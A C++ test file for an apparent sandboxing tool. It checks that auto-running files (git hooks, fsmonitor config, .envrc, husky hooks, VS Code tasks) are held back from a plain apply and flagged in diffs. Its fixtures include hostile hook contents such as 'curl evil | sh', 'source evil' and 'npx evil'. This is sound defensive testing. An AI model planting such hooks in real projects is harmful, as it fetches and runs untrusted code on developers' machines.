// Files that run later at review and apply: held back by a plain apply, written only when named
// with the run-later option, marked in the change list and the diff.
#include "TestSupport.h"
#include "base/Session.h"
#include "workspace/Workspace.h"
#include "workspace/WorkspaceTestSupport.h"

#include <algorithm>
#include <chrono>

namespace fs = std::filesystem;

namespace {

class RunLaterApply : public sbtest::LayerTest {
  protected:
    sb::ApplyOptions options(std::vector<std::string> paths = {})
    {
        sb::ApplyOptions o;
        o.paths = std::move(paths);
        o.home = root / "home"; // not the project's: only project entries apply
        return o;
    }
};

std::vector<std::string> heldPaths(const sb::ApplyReport& report)
{
    std::vector<std::string> out;
    for (const auto& h : report.held)
        out.push_back(h.path);
    return out;
}

} // namespace

TEST_F(RunLaterApply, APlainApplyHoldsThemBackAndWritesTheRest)
{
    real(".git/config", "[core]\n");
    up(".git/config", "[core]\n\tfsmonitor = ./x.sh\n");
    up(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
    up(".envrc", "source evil\n");
    up("src/fix.py", "print(1)\n");
    auto report = sb::applyChanges(upper, project, options());
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(heldPaths(*report),
              (std::vector<std::string>{".envrc", ".git/config", ".git/hooks/pre-commit"}));
    EXPECT_EQ(sbtest::readFile(project / "src/fix.py"), "print(1)\n");
    EXPECT_EQ(sbtest::readFile(project / ".git/config"), "[core]\n");
    EXPECT_FALSE(fs::exists(project / ".git/hooks/pre-commit"));
    EXPECT_FALSE(fs::exists(project / ".envrc"));
    // Held files stay in the session for a later, explicit apply.
    EXPECT_TRUE(fs::exists(upper / ".git/hooks/pre-commit"));
    EXPECT_FALSE(fs::exists(upper / "src/fix.py"));
    auto reason = std::find_if(report->held.begin(), report->held.end(),
                               [](const auto& h) { return h.path == ".envrc"; });
    EXPECT_NE(reason->reason.find("direnv"), std::string::npos) << reason->reason;
}

TEST_F(RunLaterApply, TheNamedFileIsWrittenWithTheRunLaterOption)
{
    up(".git/hooks/pre-commit", "#!/bin/sh\nmake test\n");
    up(".github/workflows/ci.yml", "on: push\n");
    auto o = options({".git/hooks/pre-commit"});
    o.includeRunLater = true;
    auto report = sb::applyChanges(upper, project, o);
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_TRUE(report->held.empty());
    EXPECT_EQ(sbtest::readFile(project / ".git/hooks/pre-commit"), "#!/bin/sh\nmake test\n");
    EXPECT_FALSE(fs::exists(project / ".github/workflows/ci.yml")); // not named
    // Without paths the option would apply everything unseen: refused.
    auto all = options();
    all.includeRunLater = true;
    auto refused = sb::applyChanges(upper, project, all);
    ASSERT_FALSE(refused);
    EXPECT_NE(refused.error().message.find("name the files"), std::string::npos);
}

TEST_F(RunLaterApply, NamingAHeldFileWithoutTheOptionStillHoldsIt)
{
    up(".husky/pre-commit", "npx evil\n");
    auto report = sb::applyChanges(upper, project, options({".husky/pre-commit"}));
    ASSERT_TRUE(report);
    EXPECT_EQ(heldPaths(*report), (std::vector<std::string>{".husky/pre-commit"}));
    EXPECT_FALSE(fs::exists(project / ".husky/pre-commit"));
}

TEST_F(RunLaterApply, DeletionsAreNotHeld)
{
    real(".envrc", "export A=1\n");
    whiteout(".envrc");
    auto o = options();
    o.sessionStartNs = std::chrono::duration_cast<std::chrono::nanoseconds>(
                           std::chrono::system_clock::now().time_since_epoch())
                           .count() +
                       1'000'000'000; // the real file is older than the session
    auto report = sb::applyChanges(upper, project, o);
    ASSERT_TRUE(report);
    EXPECT_TRUE(report->held.empty());
    EXPECT_FALSE(fs::exists(project / ".envrc"));
}

TEST_F(RunLaterApply, ChangesAndDiffMarkThem)
{
    up(".vscode/tasks.json", "{}\n");
    up("README.md", "hi\n");
    auto changes = sb::listChanges(upper, project);
    ASSERT_TRUE(changes);
    sb::RunLaterRules rules;
    sb::markRunLater(*changes, rules, project, root / "home");
    for (const auto& c : *changes)
        EXPECT_EQ(c.runLater.has_value(), c.path == ".vscode/tasks.json") << c.path;
    auto diff = sb::unifiedDiff(upper, project, {}, &rules, root / "home");
    ASSERT_TRUE(diff);
    EXPECT_NE(diff->find("!! .vscode/tasks.json runs later (VS Code: "), std::string::npos)
        << *diff;
    EXPECT_EQ(diff->find("!! README.md"), std::string::npos);
}

TEST(RunLaterSaved, TheSessionsListComesBackTheSame)
{
    sbtest::IsolatedXdg xdg;
    sb::SessionInfo session;
    session.id = "saved";
    fs::create_directories(session.directory());
    // The built-in list alone needs no file.
    ASSERT_FALSE(sb::saveSessionRunLaterRules(session, sb::RunLaterRules()));
    EXPECT_FALSE(fs::exists(session.directory() / "run-later.json"));

    sb::RunLaterPolicy policy;
    policy.add = {{"ops/run.sh", "cron"}};
    policy.unprotect = {{".npmrc", "only registry settings"}};
    auto rules = sb::RunLaterRules::make(policy);
    ASSERT_TRUE(rules);
    rules->addProjectPath("my-policy.json", "Sandbench: this session's policy");
    ASSERT_FALSE(sb::saveSessionRunLaterRules(session, *rules));
    auto back = sb::sessionRunLaterRules(session);
    ASSERT_TRUE(back) << back.error().message;
    auto match = [&](const char* path) {
        auto m = back->match(path, false, "/p", "/h");
        return m ? m->pattern : "";
    };
    EXPECT_EQ(match("ops/run.sh"), "ops/run.sh");
    EXPECT_EQ(match("my-policy.json"), "my-policy.json");
    EXPECT_EQ(match(".npmrc"), "");
    EXPECT_EQ(match(".envrc"), ".envrc");

    sbtest::writeFile(session.directory() / "run-later.json", "{\"add\": 3}");
    auto broken = sb::sessionRunLaterRules(session);
    ASSERT_FALSE(broken);
    EXPECT_NE(broken.error().message.find("run-later.json"), std::string::npos);
}
